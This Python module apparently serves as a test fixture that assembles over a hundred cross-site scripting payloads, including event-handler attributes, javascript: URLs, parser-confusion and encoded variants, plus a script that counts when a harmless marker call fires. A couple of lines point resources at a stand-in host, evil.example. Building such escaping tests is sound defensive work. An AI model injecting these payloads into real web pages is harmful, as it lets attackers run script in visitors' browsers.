"""Texts that would run a script on a page that does not escape; each says `ran()` when it does."""

from __future__ import annotations

from typing import Final

_CALL: Final = "top.ran()"
_HANDLERS: Final = ("onerror", "onload", "onfocus autofocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart")
_ELEMENTS: Final = (
    "<img src=x {handler}={call}>",
    "<svg {handler}={call}>",
    "<body {handler}={call}>",
    "<input {handler}={call}>",
    "<video src=x {handler}={call}></video>",
    "<details open {handler}={call}>x</details>",
    "<iframe src=x {handler}={call}></iframe>",
)
_PLAIN: Final = (
    "<script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT>",
    "<script/src=data:text/javascript,{call}></script>",
    "<script type=module>{call}</script>",
    "<<script>{call}//<</script>",
    "</title><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</pre><script>{call}</script>",
    "</td></tr></table><script>{call}</script>",
    '"><script>{call}</script>',
    "'><script>{call}</script>",
    '" autofocus onfocus="{call}',
    "' autofocus onfocus='{call}",
    "` onmouseover={call}",
    "javascript:{call}",
    "<a href=javascript:{call}>x</a>",
    "<a href=' &#1; javascript:{call}'>x</a>",
    "<form action=javascript:{call}><button>x</button></form>",
    "<button formaction=javascript:{call}>x</button>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<iframe src=javascript:{call}></iframe>",
    "<object data=javascript:{call}></object>",
    "<embed src=javascript:{call}>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload={call}>'></use></svg>",
    "<link rel=stylesheet href=data:text/css,x>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href='https://evil.example/'>",
    "<style>@import 'data:text/css,x';</style>",
    "<div style='background:url(javascript:{call})'>",
    "<div hx-get=/console/ hx-trigger=load hx-on::load='{call}'>x</div>",
    "<div data-hx-on:click='{call}'>x</div>",
    "<div hx-ext=sse sse-connect=https://evil.example/>",
    "{{{{ ''.__class__.__mro__ }}}}",
    "{{% raw %}}<script>{call}</script>{{% endraw %}}",
    "${{{call}}}",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "%3Cscript%3E{call}%3C/script%3E",
    "＜script＞{call}＜/script＞",
    "\u202e<script>{call}</script>",
    "<!--><script>{call}</script>-->",
    "<![CDATA[<script>{call}</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<template><script>{call}</script></template>",
    "<portal src=javascript:{call}>",
    "<marquee onstart={call}>x</marquee>",
    "<audio src=x onerror={call}>",
)
PAYLOADS: Final = tuple(text.format(call=_CALL) for text in _PLAIN) + tuple(
    element.format(handler=handler, call=_CALL) for element in _ELEMENTS for handler in _HANDLERS
)
assert len(PAYLOADS) >= 100

# Counts in the page's own world, before any of its scripts; an alert would do as well as a call.
WATCH: Final = "window.count = 0; window.ran = () => { window.count += 1; }; window.alert = window.ran;"
